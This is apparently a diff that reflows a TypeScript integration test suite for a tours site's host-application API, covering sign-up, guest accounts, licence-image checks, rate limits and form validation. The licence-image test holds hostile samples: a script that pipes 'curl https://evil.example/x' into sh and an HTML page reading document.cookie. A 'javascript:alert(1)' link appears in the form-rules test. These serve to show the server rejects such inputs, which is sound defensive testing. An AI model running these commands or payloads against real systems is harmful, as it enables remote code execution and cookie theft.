@@ -26,24 +26,62 @@ beforeAll(async () => {
 });
 afterAll(() => t?.close());
 
-const hostRow = async (customerId: number) => (await t.db.select().from(hosts).where(eq(hosts.customerId, customerId)))[0];
+const hostRow = async (customerId: number) =>
+  (await t.db.select().from(hosts).where(eq(hosts.customerId, customerId)))[0];
 const mailsTo = (to: string) => t.db.select().from(outbox).where(eq(outbox.toAddress, to));
-const emailCheck = (email: string) => t.app.inject({ method: 'GET', url: `/api/host-applications/email-check?email=${encodeURIComponent(email)}`, headers: { 'x-forwarded-for': clientIp() } });
+const emailCheck = (email: string) =>
+  t.app.inject({
+    method: 'GET',
+    url: `/api/host-applications/email-check?email=${encodeURIComponent(email)}`,
+    headers: { 'x-forwarded-for': clientIp() },
+  });
 const hostMe = (token: string) => t.app.inject({ method: 'GET', url: '/api/host/me', headers: bearer(token) });
 
 describe('a visitor applies', () => {
   it('makes an unconfirmed account with a pending application, signs it in and mails the confirmation and the receipt', async () => {
-    const body = await applicationBody(dubai, { mobile2: '552223344', landline2: '', firstName2: 'Sara', lastName2: 'Ali', designation2: 'Operations' });
+    const body = await applicationBody(dubai, {
+      mobile2: '552223344',
+      landline2: '',
+      firstName2: 'Sara',
+      lastName2: 'Ali',
+      designation2: 'Operations',
+    });
     const response = await apply(t.app, body);
     expect(response.statusCode).toBe(201);
     const answer = response.json();
-    expect(answer.user).toMatchObject({ email: body.email, isConfirmed: false, isHost: false, isGuest: false, phoneNumber: '+971501234567' });
-    expect(answer.host).toEqual({ status: 'pending', rejectionReason: null, companyName: 'Desert Bloom Tours LLC', isConfirmed: false, canManageActivities: false, firstName: 'Hamad', lastName: 'Al Nuaimi' });
+    expect(answer.user).toMatchObject({
+      email: body.email,
+      isConfirmed: false,
+      isHost: false,
+      isGuest: false,
+      phoneNumber: '+971501234567',
+    });
+    expect(answer.host).toEqual({
+      status: 'pending',
+      rejectionReason: null,
+      companyName: 'Desert Bloom Tours LLC',
+      isConfirmed: false,
+      canManageActivities: false,
+      firstName: 'Hamad',
+      lastName: 'Al Nuaimi',
+    });
 
     const row = (await hostRow(answer.user.id))!;
-    expect(row).toMatchObject({ status: 'pending', businessName: 'Desert Bloom Tours LLC', landline: `+971${body.landline}`, mobile2: '+971552223344', landline2: null, cityId: dubai.cityId, areaId: dubai.areaId, youtubeLink: null });
+    expect(row).toMatchObject({
+      status: 'pending',
+      businessName: 'Desert Bloom Tours LLC',
+      landline: `+971${body.landline}`,
+      mobile2: '+971552223344',
+      landline2: null,
+      cityId: dubai.cityId,
+      areaId: dubai.areaId,
+      youtubeLink: null,
+    });
     expect(row.tradeLicenseImage).toMatch(/^licences\/[0-9a-f]{32}\.jpg$/);
-    const [account] = await t.db.select({ passwordHash: customers.passwordHash }).from(customers).where(eq(customers.id, answer.user.id));
+    const [account] = await t.db
+      .select({ passwordHash: customers.passwordHash })
+      .from(customers)
+      .where(eq(customers.id, answer.user.id));
     expect(account!.passwordHash).toMatch(/^\$argon2id\$/);
 
     // Signed in by cookie, as after the ordinary sign-up: the host area can load at once.
@@ -71,7 +109,10 @@ describe('a visitor applies', () => {
   });
 
   it('takes bare base64 as well as a data URL', async () => {
-    const response = await apply(t.app, await applicationBody(dubai, { tradeLicenseImage: (await jpeg()).toString('base64') }));
+    const response = await apply(
+      t.app,
+      await applicationBody(dubai, { tradeLicenseImage: (await jpeg()).toString('base64') }),
+    );
     expect(response.statusCode).toBe(201);
   });
 
@@ -93,7 +134,11 @@ describe('a visitor applies', () => {
     const customer = await signUp(t.app);
     const asCustomer = await apply(t.app, await applicationBody(dubai, { email: customer.email.toUpperCase() }));
     expect(asCustomer.statusCode).toBe(409);
-    expect(asCustomer.json()).toMatchObject({ code: 'CUSTOMER_EXISTS', message: HOST_MESSAGES.customerExists, fieldErrors: { email: [HOST_MESSAGES.customerExists] } });
+    expect(asCustomer.json()).toMatchObject({
+      code: 'CUSTOMER_EXISTS',
+      message: HOST_MESSAGES.customerExists,
+      fieldErrors: { email: [HOST_MESSAGES.customerExists] },
+    });
     expect(await hostRow(customer.user.id)).toBeUndefined();
 
     const first = await apply(t.app, await applicationBody(dubai));
@@ -111,7 +156,10 @@ describe('a visitor applies', () => {
   });
 
   it("takes over a checkout guest's record on the e-mail, as the ordinary sign-up does", async () => {
-    const [guest] = await t.db.insert(customers).values({ email: `guest-host-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true }).returning();
+    const [guest] = await t.db
+      .insert(customers)
+      .values({ email: `guest-host-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true })
+      .returning();
     expect((await emailCheck(guest!.email)).json()).toEqual({ status: 'none' });
     const response = await apply(t.app, await applicationBody(dubai, { email: guest!.email }));
     expect(response.statusCode).toBe(201);
@@ -122,10 +170,19 @@ describe('a visitor applies', () => {
 describe('a signed-in customer applies', () => {
   it('sends no password: the application joins the account, whose names and mobile become contact person 1', async () => {
     const customer = await signUp(t.app);
-    const { password: _p, ...body } = await applicationBody(dubai, { email: 'ignored@example.test', firstName: 'Mariam', phoneNumber: '561112233' });
+    const { password: _p, ...body } = await applicationBody(dubai, {
+      email: 'ignored@example.test',
+      firstName: 'Mariam',
+      phoneNumber: '561112233',
+    });
     const response = await apply(t.app, body, { token: customer.token });
     expect(response.statusCode).toBe(201);
-    expect(response.json().user).toMatchObject({ id: customer.user.id, email: customer.email, firstName: 'Mariam', phoneNumber: '+971561112233' });
+    expect(response.json().user).toMatchObject({
+      id: customer.user.id,
+      email: customer.email,
+      firstName: 'Mariam',
+      phoneNumber: '+971561112233',
+    });
     expect((await hostRow(customer.user.id))!.status).toBe('pending');
     // No new confirmation mail: the account's own address stands.
     expect((await mailsTo(customer.email)).filter((m) => m.template === 'host-application-received')).toHaveLength(1);
@@ -140,8 +197,14 @@ describe('a signed-in customer applies', () => {
     const { password: _p, ...body } = await applicationBody(dubai);
     expect((await apply(t.app, body, { token: customer.token })).statusCode).toBe(201);
     const before = (await hostRow(customer.user.id))!;
-    await t.db.update(hosts).set({ status: 'rejected', rejectionReason: 'The licence has expired.' }).where(eq(hosts.customerId, customer.user.id));
-    expect((await hostMe(customer.token)).json()).toMatchObject({ status: 'rejected', rejectionReason: 'The licence has expired.' });
+    await t.db
+      .update(hosts)
+      .set({ status: 'rejected', rejectionReason: 'The licence has expired.' })
+      .where(eq(hosts.customerId, customer.user.id));
+    expect((await hostMe(customer.token)).json()).toMatchObject({
+      status: 'rejected',
+      rejectionReason: 'The licence has expired.',
+    });
     expect((await emailCheck(customer.email)).json()).toEqual({ status: 'host' });
 
     const response = await apply(t.app, { ...body, tradeLicenseId: 'DED-RENEWED' }, { token: customer.token });
@@ -161,7 +224,10 @@ describe('a signed-in customer applies', () => {
   });
 
   it('treats a guest session as a visitor (a password is needed)', async () => {
-    const [guest] = await t.db.insert(customers).values({ email: `guest-session-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true }).returning();
+    const [guest] = await t.db
+      .insert(customers)
+      .values({ email: `guest-session-${Date.now()}@example.test`, firstName: 'G', lastName: 'Uest', isGuest: true })
+      .returning();
     const { token } = await createSession(t.db, guest!.id, false);
     const { password: _p, ...body } = await applicationBody(dubai);
     const response = await apply(t.app, body, { token });
@@ -177,7 +243,9 @@ describe('the licence image is judged by its content', () => {
   };
 
   it('refuses a PNG renamed, an HTML file and a script sent as a JPEG, and stores nothing', async () => {
-    const png = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#ffffff' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#ffffff' } })
+      .png()
+      .toBuffer();
     const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
     // A JPEG's first bytes over a body that is not one.
@@ -186,7 +254,10 @@ describe('the licence image is judged by its content', () => {
     const storedBefore = fs.existsSync(licencesDir) ? fs.readdirSync(licencesDir).length : 0;
     for (const data of [png, html, script, forged]) {
       const answer = await refused(dataUrl(data, 'image/jpeg'));
-      expect(answer).toMatchObject({ code: 'IMAGE_NOT_JPEG', fieldErrors: { tradeLicenseImage: [HOST_MESSAGES.licenceNotJpeg] } });
+      expect(answer).toMatchObject({
+        code: 'IMAGE_NOT_JPEG',
+        fieldErrors: { tradeLicenseImage: [HOST_MESSAGES.licenceNotJpeg] },
+      });
     }
     expect((await refused('%%% not base64 %%%')).code).toBe('IMAGE_NOT_JPEG');
     expect(fs.existsSync(licencesDir) ? fs.readdirSync(licencesDir).length : 0).toBe(storedBefore);
@@ -210,7 +281,12 @@ describe('the licence image is judged by its content', () => {
 describe('rate limits', () => {
   it('answers 429 to an address that checks e-mails past the limit', async () => {
     const ip = clientIp();
-    const check = () => t.app.inject({ method: 'GET', url: '/api/host-applications/email-check?email=someone%40example.test', headers: { 'x-forwarded-for': ip } });
+    const check = () =>
+      t.app.inject({
+        method: 'GET',
+        url: '/api/host-applications/email-check?email=someone%40example.test',
+        headers: { 'x-forwarded-for': ip },
+      });
     for (let i = 0; i < HOST_RATE_LIMITS.emailCheck.max; i++) expect((await check()).statusCode).toBe(200);
     expect((await check()).statusCode).toBe(429);
   });
@@ -221,20 +297,42 @@ describe('the form rules', () => {
     for (const phoneNumber of ['50123456', '5012345678', '+971501234567', '05012345', 'abcdefghi', '']) {
       const response = await apply(t.app, await applicationBody(dubai, { phoneNumber }));
       expect({ phoneNumber, status: response.statusCode }).toEqual({ phoneNumber, status: 400 });
-      expect(response.json().fieldErrors.phoneNumber).toEqual([phoneNumber ? HOST_MESSAGES.phoneInvalid : HOST_MESSAGES.required]);
+      expect(response.json().fieldErrors.phoneNumber).toEqual([
+        phoneNumber ? HOST_MESSAGES.phoneInvalid : HOST_MESSAGES.required,
+      ]);
     }
-    const landline = await apply(t.app, await applicationBody(dubai, { landline: '4234567', mobile2: '12', landline2: '1234567890' }));
-    expect(landline.json().fieldErrors).toMatchObject({ landline: [HOST_MESSAGES.phoneInvalid], mobile2: [HOST_MESSAGES.phoneInvalid], landline2: [HOST_MESSAGES.phoneInvalid] });
+    const landline = await apply(
+      t.app,
+      await applicationBody(dubai, { landline: '4234567', mobile2: '12', landline2: '1234567890' }),
+    );
+    expect(landline.json().fieldErrors).toMatchObject({
+      landline: [HOST_MESSAGES.phoneInvalid],
+      mobile2: [HOST_MESSAGES.phoneInvalid],
+      landline2: [HOST_MESSAGES.phoneInvalid],
+    });
   });
 
   it('refuses an area of another city', async () => {
     const response = await apply(t.app, await applicationBody({ cityId: places.dubai.id, areaId: places.corniche.id }));
     expect(response.statusCode).toBe(400);
-    expect(response.json()).toMatchObject({ code: 'AREA_NOT_IN_CITY', fieldErrors: { areaId: [HOST_MESSAGES.areaNotInCity] } });
+    expect(response.json()).toMatchObject({
+      code: 'AREA_NOT_IN_CITY',
+      fieldErrors: { areaId: [HOST_MESSAGES.areaNotInCity] },
+    });
   });
 
   it('requires the business fields and takes only http(s) links', async () => {
-    const response = await apply(t.app, await applicationBody(dubai, { companyName: '', tradeLicenseId: ' ', designation: '', email: 'x@', facebookLink: 'javascript:alert(1)', twitterLink: 'ftp://files.example' }));
+    const response = await apply(
+      t.app,
+      await applicationBody(dubai, {
+        companyName: '',
+        tradeLicenseId: ' ',
+        designation: '',
+        email: 'x@',
+        facebookLink: 'javascript:alert(1)',
+        twitterLink: 'ftp://files.example',
+      }),
+    );
     expect(response.statusCode).toBe(400);
     expect(response.json().fieldErrors).toMatchObject({
       companyName: [HOST_MESSAGES.required],
@@ -258,11 +356,21 @@ describe('GET /api/host/me and the confirmation', () => {
     const response = await apply(t.app, await applicationBody(dubai));
     const user = response.json().user as { id: number; email: string };
     const token = new URL(confirmationLink(t.app.config.SESSION_SECRET, user), 'http://x').searchParams.get('token')!;
-    const confirmed = await t.app.inject({ method: 'POST', url: '/api/accounts/confirm', headers: { 'x-forwarded-for': clientIp() }, payload: { id: user.id, token } });
+    const confirmed = await t.app.inject({
+      method: 'POST',
+      url: '/api/accounts/confirm',
+      headers: { 'x-forwarded-for': clientIp() },
+      payload: { id: user.id, token },
+    });
     expect(confirmed.json()).toMatchObject({ message: ACCOUNT_MESSAGES.emailConfirmed, isHost: true });
 
     await t.db.update(hosts).set({ status: 'rejected' }).where(eq(hosts.customerId, user.id));
-    const again = await t.app.inject({ method: 'POST', url: '/api/accounts/confirm', headers: { 'x-forwarded-for': clientIp() }, payload: { id: user.id, token } });
+    const again = await t.app.inject({
+      method: 'POST',
+      url: '/api/accounts/confirm',
+      headers: { 'x-forwarded-for': clientIp() },
+      payload: { id: user.id, token },
+    });
     expect(again.json()).toMatchObject({ isHost: false });
   });
 });
